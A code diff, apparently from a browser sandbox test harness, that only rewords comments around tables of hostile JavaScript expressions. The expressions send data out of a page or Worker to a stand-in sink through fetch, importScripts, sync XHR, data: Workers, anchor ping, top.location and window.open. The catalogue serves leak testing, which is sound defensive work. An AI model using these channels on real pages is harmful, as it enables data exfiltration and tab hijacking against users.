@@ -1,7 +1,8 @@
 /**
- * Ways to send something out of a page or a Worker, as expressions of hostile code. `to` names targets: `to.sink(name)`
- * another origin, `to.site(name)` the page's own, `to.name(name)` a name to be looked up, and the ports of the other
- * listeners. Where a scope does not have what an expression needs, it throws.
+ * Ways to send something out of a page or a Worker, as expressions of hostile code. `to` names the
+ * targets: `to.sink(name)` on another origin, `to.site(name)` on the page's own, `to.name(name)` to
+ * be looked up, and the ports of the other listeners. An expression throws if its scope lacks what
+ * it needs.
  */
 const CHANNELS: Record<string, string> = {
   fetch: `fetch(to.sink('fetch'), { mode: 'no-cors' })`,
@@ -53,7 +54,10 @@ const CHANNELS: Record<string, string> = {
   window: `if (!open(to.sink('window'))) throw new Error('refused')`,
 };
 
-/** Ways that hold a Worker up until an answer comes, which a nested one's may never (Firefox, from a file): they come last. */
+/**
+ * Ways that block a Worker until an answer comes, so they come last. In a nested Worker the answer
+ * may never come (Firefox, from a file).
+ */
 const BLOCKING: Record<string, string> = {
   importScripts: `importScripts(to.sink('importScripts'))`,
   syncXhr: `const y = new XMLHttpRequest(); y.open('GET', to.sink('syncXhr'), false); y.send()`,
@@ -62,10 +66,10 @@ const BLOCKING: Record<string, string> = {
   dataWorker: `new Worker("data:text/javascript,fetch('" + to.sink('dataWorker') + "', { mode: 'no-cors' })")`,
 };
 
-/** What a browser lets a page do only when its user presses something. */
+/** What a browser lets a page do only on a user gesture. */
 const PRESSED = `open(to.sink('window'))`;
 
-/** Ways to lead the tab elsewhere, out of a frame first. They leave the page, so they come last. */
+/** Ways to navigate the tab, out of a frame first. They leave the page, so they come last. */
 const NAVIGATION: Record<string, string> = {
   ping: `put('a', { href: '#', ping: to.sink('ping') }).click()`,
   topLocation: `if (top === self) throw new Error('no frame'); top.location.href = to.sink('topLocation')`,
@@ -76,9 +80,9 @@ const NAVIGATION: Record<string, string> = {
 };
 
 /**
- * Hostile code that tries every channel once, under names that begin with a letter for where it runs: p for the page,
- * m and c for a module Worker and a classic one. Then says that it has. A page's waits for a key, and opens a window
- * and leaves.
+ * Hostile code that tries every channel once, then reports that it has. A letter before each name
+ * says where it ran: p for the page, m for a module Worker, c for a classic one. In a page it then
+ * waits for a key, opens a window and leaves.
  */
 export function hostileCode(ports: Record<string, number>, run: string): string {
   const listOf = (channels: Record<string, string>) =>
